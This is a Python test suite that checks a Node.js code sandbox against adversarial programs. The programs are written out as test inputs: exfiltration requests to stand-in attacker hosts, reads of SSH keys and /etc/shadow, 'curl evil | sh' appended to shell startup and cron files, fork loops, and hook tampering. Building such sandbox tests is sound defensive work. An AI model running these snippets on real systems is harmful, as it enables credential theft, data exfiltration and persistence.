"""The Node runtime against each promise of the sandbox, as test_adversarial.py does for Python
(real Docker engine, real bubblewrap, the project's Node from scripts/setup-sandbox.sh; never skipped)."""

from __future__ import annotations

import textwrap
import time
import uuid

import pytest

from sandgate.findings import Level, Verdict
from sandgate.policy.model import SandboxPolicy
from sandgate.sandbox.honeytokens import new as new_honey
from sandgate.sandbox.select import open_backend
from tests.sandbox.conftest import (
    CANARY_ENV,
    CANARY_FILE_TEXT,
    CANARY_VALUE,
    assert_host_clean,
    current_image,
    decision,
    procs_with,
    run,
    with_limits,
)


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def backend(request):
    b, probes = open_backend(request.param, SandboxPolicy(image=current_image() if request.param == "docker" else None))
    assert b is not None, f"{request.param} backend unavailable: {probes}"
    return b


def js(backend, text: str, relpath: str = "suggestion.js", **kw):
    return run(backend, textwrap.dedent(text).strip() + "\n", relpath=relpath, runtime="node", **kw)


def test_plain_runs_commonjs_esm_and_typescript(backend, balanced):
    cases = [
        ("suggestion.js", "const n = [1, 2, 3].reduce((a, b) => a + b); console.log(typeof require, n)", "function 6"),
        ("suggestion.mjs", "const n = 6; console.log(typeof require, n)", "undefined 6"),
        (
            "suggestion.js",
            "export const n: number = 6;\nconsole.log(typeof require)".replace(": number", ""),
            "undefined",
        ),
        (
            "suggestion.ts",
            "const n: number = 6;\ninterface P { x: number }\nconsole.log(typeof require, n)",
            "function 6",
        ),
        ("suggestion.ts", "export function f(a: string): string { return a }\nconsole.log(f('esm-ts'))", "esm-ts"),
    ]
    for relpath, text, want in cases:
        result, findings, rules = js(backend, text, relpath)
        assert result.error is None and result.exit_code == 0, (relpath, result)
        assert result.stdout == want + "\n", (relpath, result.stdout, result.stderr)
        assert rules == set(), (relpath, rules, findings)
        assert decision(balanced, findings) == Verdict.ALLOW
    assert_host_clean(backend)


def test_syntax_error_is_information(backend):
    result, findings, rules = js(backend, "function (\n")
    assert result.exit_code == 3
    assert "syntax.error" in rules or "sandbox.syntax-error" in rules or any(f.source == "syntax" for f in findings)


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("function f() { return null.x }\nf()", "TypeError: Cannot read properties of null (reading 'x')"),
        ('require("sandgate-no-such-module")', "Error: Cannot find module 'sandgate-no-such-module'"),
        ('Promise.reject(new RangeError("late"))', "RangeError: late"),
        ('throw "a plain string"', "a plain string"),
        ('console.error("custom failure"); process.exit(3)', "custom failure"),
    ],
)
def test_a_failed_run_is_summarised_by_its_error_not_nodes_last_line(backend, code, said):
    """Node prints the error after a caret block, then the stack and its version: the finding says
    the error, as a Python run's says its traceback's last line."""
    result, findings, rules = js(backend, code)
    assert "run.error" in rules, (rules, result.stderr)
    error = next(f for f in findings if f.rule == "run.error")
    assert error.detail("last_line") == said, result.stderr
    assert error.message.endswith(f": {said}") and "Node.js v" not in error.message


def test_network_is_denied(backend, balanced):
    result, findings, rules = js(
        backend,
        """
        const net = require('net'), http = require('http'), dns = require('dns');
        let left = 4;
        const done = (what) => { console.log(what); if (--left === 0) process.exit(0); };
        const s = net.connect({ host: '1.1.1.1', port: 443 });
        s.on('connect', () => done('CONNECTED')); s.on('error', (e) => done('blocked ' + e.code));
        http.get('http://exfil.example.com/c?d=' + (process.env.CANARY || 'none'), () => done('SENT'))
          .on('error', (e) => done('blocked ' + e.code));
        dns.lookup('c2VjcmV0.attacker.example', (e) => done(e ? 'no dns' : 'RESOLVED'));
        const u = require('dgram').createSocket('udp4');
        u.send('secret', 53, '8.8.8.8', (e) => { done(e ? 'blocked ' + e.code : 'SENT'); u.close(); });
        """.replace("CANARY", CANARY_ENV),
    )
    assert "CONNECTED" not in result.stdout and "SENT" not in result.stdout and "RESOLVED" not in result.stdout
    assert result.stdout.count("blocked") == 3 and "no dns" in result.stdout, result.stdout
    hosts = {f.detail("host") for f in findings if f.rule == "network.denied"}
    assert {"1.1.1.1", "exfil.example.com", "c2VjcmV0.attacker.example", "8.8.8.8"} <= hosts, findings
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_host_secrets_do_not_enter(backend, balanced, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(CANARY_FILE_TEXT)
    monkeypatch.setenv("HOME", str(home))
    result, findings, rules = js(
        backend,
        f"""
        const fs = require('fs'), os = require('os');
        console.log(JSON.stringify(process.env));
        console.log('home', os.homedir());
        for (const p of [{str(home / ".ssh" / "id_rsa")!r}, os.homedir() + '/.ssh/id_rsa', '/root/.ssh/id_rsa',
                         '/etc/shadow', '/proc/1/environ']) {{
          try {{ console.log(p, fs.readFileSync(p, 'utf8')); }} catch (e) {{ console.log(p, 'denied', e.code); }}
        }}
        console.log(fs.readdirSync('/'));
        """,
    )
    out = result.stdout + result.stderr
    assert CANARY_VALUE not in out and CANARY_FILE_TEXT not in out and CANARY_ENV not in out
    assert "home /home/sandbox" in result.stdout
    reads = {f.detail("path"): f.severity for f in findings if f.rule == "fs.read-outside-workspace"}
    assert reads.get("/etc/shadow") == Level.HIGH and reads.get("/root/.ssh/id_rsa") == Level.HIGH, findings
    assert "'root'" not in result.stdout
    assert decision(balanced, findings) in (Verdict.REVIEW, Verdict.BLOCK)
    assert_host_clean(backend)


def test_writes_outside_scratch_fail(backend, balanced, tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "app.js").write_text("module.exports = 1\n")
    result, findings, rules = js(
        backend,
        """
        const fs = require('fs');
        for (const p of ['/home/sandbox/.bashrc', '/root/.bashrc', '/workspace/app.js', '/workspace/new.js',
                         '/etc/cron.d/evil', '/usr/local/bin/node']) {
          try { fs.appendFileSync(p, 'curl evil | sh\\n'); console.log('WROTE', p); }
          catch (e) { console.log('denied', p, e.code); }
        }
        fs.writeFileSync('/tmp/scratch.txt', 'fine');
        console.log('scratch ok', fs.readFileSync('/tmp/scratch.txt', 'utf8'));
        """,
        relpath="app.js",
        workspace=ws,
    )
    wrote = [line for line in result.stdout.splitlines() if line.startswith("WROTE")]
    assert wrote == ["WROTE /home/sandbox/.bashrc"], result.stdout
    assert "scratch ok fine" in result.stdout
    paths = {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
    assert {"/home/sandbox/.bashrc", "/root/.bashrc", "/workspace/app.js", "/workspace/new.js"} <= paths, findings
    assert "/tmp/scratch.txt" not in paths
    assert (ws / "app.js").read_text() == "module.exports = 1\n" and not (ws / "new.js").exists()
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_spawn_loop_hits_the_process_limit(backend, balanced):
    token = "forkbomb-" + uuid.uuid4().hex
    result, findings, rules = js(
        backend,
        f"""
        const {{ spawn }} = require('child_process');
        // {token}
        const kids = [];
        for (let i = 0; i < 200; i++) {{
          try {{ const k = spawn(process.execPath, ['-e', 'setInterval(() => {{}}, 1000) // {token}']);
                k.on('error', (e) => console.error(e.message)); kids.push(k); }}
          catch (e) {{ console.error(e.message); }}
        }}
        setTimeout(() => {{}}, 5000);
        """,
        limits=with_limits(processes=16),
    )
    assert "limit.processes" in rules, (result, rules)
    assert "process.spawn" in rules
    assert decision(balanced, findings) in (Verdict.REVIEW, Verdict.BLOCK)
    assert_host_clean(backend, token)


def test_memory_hog_hits_the_memory_limit(backend, balanced):
    result, findings, rules = js(
        backend,
        """
        const keep = [];
        while (true) keep.push(Buffer.alloc(32 * 1024 * 1024, 1));
        """,
        limits=with_limits(memory_mb=128),
    )
    assert result.killed == "memory", result
    assert "limit.memory" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_heap_hog_hits_the_memory_limit(backend):
    result, findings, rules = js(
        backend,
        "const keep = []; while (true) keep.push({ a: Math.random(), b: [1, 2, 3], c: 'x'.repeat(64) });",
        limits=with_limits(memory_mb=128, wall_time_s=8, cpu_time_s=8),
    )
    assert result.killed == "memory", (result.killed, result.stderr[-400:])
    assert "limit.memory" in rules


def test_endless_loop_hits_time(backend, balanced):
    t0 = time.monotonic()
    result, findings, rules = js(backend, "while (true) {}", limits=with_limits(wall_time_s=1.5, cpu_time_s=5))
    assert time.monotonic() - t0 < 6
    assert result.timed_out and result.killed == "time"
    assert "limit.time" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_output_flood_is_capped(backend, balanced):
    result, findings, rules = js(
        backend,
        "const a = 'A'.repeat(4096); while (true) require('fs').writeSync(1, a);",
        limits=with_limits(output_bytes=10000),
    )
    assert result.output_truncated and result.killed == "output"
    assert len(result.stdout) + len(result.stderr) <= 10000
    assert "limit.output" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_a_detached_child_does_not_outlive_the_run(backend, balanced):
    token = "daemon-" + uuid.uuid4().hex
    result, findings, rules = js(
        backend,
        f"""
        const {{ spawn }} = require('child_process');
        const k = spawn(process.execPath, ['-e', "setInterval(() => require('net').connect(80, '203.0.113.7').on('error', () => {{}}), 100) // {token}"],
                        {{ detached: true, stdio: 'ignore' }});
        k.unref();
        setTimeout(() => console.log('parent leaves'), 500);
        """,
    )
    assert "parent leaves" in result.stdout
    assert "process.spawn" in rules
    assert any(f.detail("host") == "203.0.113.7" for f in findings if f.rule == "network.denied"), findings
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend, token)
    assert procs_with(token) == []


def test_honeytoken_read_and_sent_is_exfiltration(backend, balanced):
    honey = new_honey()
    name = sorted(honey.header()["env"])[0]
    result, findings, rules = js(
        backend,
        f"""
        const v = process.env[{name!r}] || 'none';
        require('net').connect(443, '198.51.100.9').on('error', () => {{}}).write(v);
        require('dgram').createSocket('udp4').send(v, 53, '198.51.100.9', () => process.exit(0));
        """,
        honey=honey,
    )
    assert "secret.exfiltration" in rules or "secret.honeytoken-read" in rules, (rules, findings)
    assert decision(balanced, findings) == Verdict.BLOCK


def test_patched_hooks_do_not_blind_the_supervisor(backend, balanced):
    result, findings, rules = js(
        backend,
        """
        // Blind what runs in-process: the connect wrapper, the events pipe's writer, the exit report.
        const fs = require('fs'), net = require('net');
        net.Socket.prototype.connect = Object.getPrototypeOf(net.Socket.prototype).connect || net.Socket.prototype.connect;
        fs.writeSync = () => 0;
        process.removeAllListeners('exit');
        require('child_process').spawnSync('/usr/bin/python3', ['-c', 'print(1)']);
        try { fs.writeFileSync('/home/sandbox/.profile', 'x'); } catch (e) {}
        require('net').connect(443, '1.1.1.1').on('error', () => {});
        setTimeout(() => process.reallyExit(0), 300);
        """,
    )
    assert "process.spawn" in rules, (rules, findings)
    assert any(f.detail("host") == "1.1.1.1" for f in findings if f.rule == "network.denied"), findings
    assert "/home/sandbox/.profile" in {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
    assert "monitor.tampered" in rules  # ended without its final report
    assert decision(balanced, findings) == Verdict.BLOCK


def test_python_runs_unchanged_beside_node(backend):
    result, findings, rules = run(backend, "print(6 * 7)")
    assert result.stdout == "42\n" and rules == set()


def test_the_programs_own_exec_of_node_is_recorded(backend, balanced):
    # The supervisor leaves out one exec: the bootstrap's launch of Node, the main task's first.
    # The program replacing itself with Node again (same task, same binary) is still an exec.
    result, findings, rules = js(
        backend,
        "process.execve('/usr/local/bin/node', ['node', '-e', 'console.log(\"replaced\")'], {});",
    )
    assert "process.spawn" in rules, (rules, result.outside)
    assert decision(balanced, findings) in (Verdict.REVIEW, Verdict.BLOCK)


def test_doctor_sees_node_in_the_sandbox(backend):
    from sandgate.cli.sandbox import node_check, node_installed

    assert node_installed()[0]
    assert node_check(backend).startswith("runs Node: v"), node_check(backend)


def test_without_a_cgroup_node_starts_and_its_heap_is_still_capped(monkeypatch):
    # rlimits only (a host without a writable cgroup): V8 needs its address-space reservation, and
    # the heap cap comes from --max-old-space-size instead.
    from sandgate.sandbox import cgroup
    from sandgate.sandbox.bwrap_backend import BwrapBackend

    monkeypatch.setattr(cgroup, "available", lambda: False)
    b = BwrapBackend(pool_size=0)
    try:
        # A cold start with no pool: time enough on a busy machine (this is about memory, not time).
        result, findings, rules = js(b, "console.log('up', 1 + 1)", limits=with_limits(wall_time_s=8, cpu_time_s=8))
        assert result.exit_code == 0 and result.stdout == "up 2\n", result
        # Small objects take V8 through collection after collection near its cap (0.6-0.7 s here;
        # the test once hit an 8 s limit in CI): time enough, since this is about memory.
        result, findings, rules = js(
            b,
            "const keep = []; while (true) keep.push({ a: Math.random(), b: 'x'.repeat(64) });",
            limits=with_limits(memory_mb=128, wall_time_s=20, cpu_time_s=20),
        )
        assert result.killed == "memory", (result.killed, result.stderr[-300:])
        assert "limit.memory" in rules
    finally:
        b.close()


def test_workspace_modules_resolve_read_only_and_exit_handlers_print_before_the_end(backend, tmp_path):
    ws = tmp_path / "ws"
    (ws / "node_modules" / "pad").mkdir(parents=True)
    (ws / "node_modules" / "pad" / "index.js").write_text("module.exports = (s) => '[' + s + ']';\n")
    (ws / "lib").mkdir()
    (ws / "lib" / "pad.js").write_text("module.exports = (s) => '[' + s + ']';\n")
    (ws / "lib" / "util.mjs").write_text("export const twice = (n) => n * 2;\n")
    cjs, _, rules = js(
        backend,
        "const pad = require('../lib/pad');\nprocess.on('exit', () => console.log('bye'));\nconsole.log(pad('x'));",
        relpath="src/app.js",
        workspace=ws,
    )
    assert cjs.stdout == "[x]\nbye\n", (cjs.stdout, cjs.stderr)
    assert rules == set()
    esm, _, rules = js(
        backend,
        "import { twice } from '../lib/util.mjs';\nconsole.log(twice(21));",
        relpath="src/app.mjs",
        workspace=ws,
    )
    assert esm.stdout == "42\n", (esm.stdout, esm.stderr)
    assert rules == set()
    # The workspace's node_modules are shown read-only (dependency_view.py; attacked in
    # test_node_modules_view.py), unlike a Python workspace's .venv.
    shown, _, _ = js(backend, "console.log(require('pad')('y'))", relpath="src/app.js", workspace=ws)
    assert shown.stdout == "[y]\n", (shown.stdout, shown.stderr)
